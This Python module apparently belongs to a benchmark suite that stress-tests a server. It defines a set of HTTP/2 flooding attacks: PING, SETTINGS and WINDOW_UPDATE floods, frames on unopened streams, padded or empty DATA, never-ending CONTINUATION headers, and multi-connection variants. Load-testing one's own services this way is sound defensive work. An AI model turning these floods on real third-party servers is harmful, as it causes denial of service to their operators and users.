"""Frames that cost next to nothing to send, on one connection, as fast as it goes."""

from __future__ import annotations

from benchmarks.attack import attack, backend, frames, link, target

_DECLARED = 40_000_000  # bytes of a message that never comes to its end
_BLOCK = frames.block(frames.call(backend.INFER))
_MESSAGE = frames.message(b"")[:1] + _DECLARED.to_bytes(4)
_STREAM = frames.open_stream(1, _BLOCK) + frames.data(1, _MESSAGE, flags=0)


def _flood(piece: bytes, first: bytes = b"", most: int = 64_000_000) -> attack.Strike:
    async def run(to: target.Target) -> None:
        async with link.http2(to) as one:
            await one.send(first or frames.ping())
            await one.flood(piece, most)
            await one.linger()

    return attack.again(run)


def _numbered(kind: int, payload: bytes) -> bytes:
    """The frame for many streams, none of which is open."""
    return b"".join(frames.frame(kind, 0, stream, payload) for stream in range(1, 2001, 2))


ATTACKS = (
    attack.Attack("priority", "PRIORITY", _flood(_numbered(frames.PRIORITY, b"\0\0\0\0\x10"))),
    attack.Attack("window-update", "WINDOW_UPDATE by one", _flood(frames.window_update(0, 1))),
    attack.Attack("window-update-stream", "WINDOW_UPDATE of a stream", _flood(frames.window_update(1, 1), _STREAM)),
    attack.Attack("unknown", "frames of an unknown kind", _flood(frames.frame(frames.UNKNOWN))),
    attack.Attack("ping", "PING", _flood(frames.ping())),
    attack.Attack("ping-ack", "answers to no PING", _flood(frames.ping(flags=frames.ACK))),
    attack.Attack("settings", "empty SETTINGS", _flood(frames.settings())),
    attack.Attack("settings-ack", "acknowledged SETTINGS", _flood(frames.frame(frames.SETTINGS, frames.ACK))),
    attack.Attack("goaway", "GOAWAY", _flood(frames.frame(frames.GOAWAY, payload=bytes(8)))),
    attack.Attack("empty-data", "empty DATA", _flood(frames.frame(frames.DATA, 0, 1), _STREAM)),
    attack.Attack(
        "one-byte-data", "DATA of one byte", _flood(frames.frame(frames.DATA, 0, 1, b"x"), _STREAM, 30_000_000)
    ),
    attack.Attack(
        "padding",
        "DATA of padding only",
        _flood(frames.frame(frames.DATA, frames.PADDED, 1, b"\xff" + bytes(255)), _STREAM),
    ),
    attack.Attack(
        "continuation",
        "HEADERS that never end",
        _flood(frames.frame(frames.CONTINUATION, 0, 1), frames.frame(frames.HEADERS, 0, 1, _BLOCK)),
    ),
    attack.Attack(
        "continuation-bytes",
        "HEADERS that never end, a byte at a time",
        _flood(frames.frame(frames.CONTINUATION, 0, 1, b"\x82"), frames.frame(frames.HEADERS, 0, 1, _BLOCK)),
    ),
    attack.Attack("ping-8", "PING from eight connections", attack.at_once(_flood(frames.ping()), 8)),
    attack.Attack(
        "data-8",
        "empty DATA from eight connections",
        attack.at_once(_flood(frames.frame(frames.DATA, 0, 1), _STREAM), 8),
    ),
)
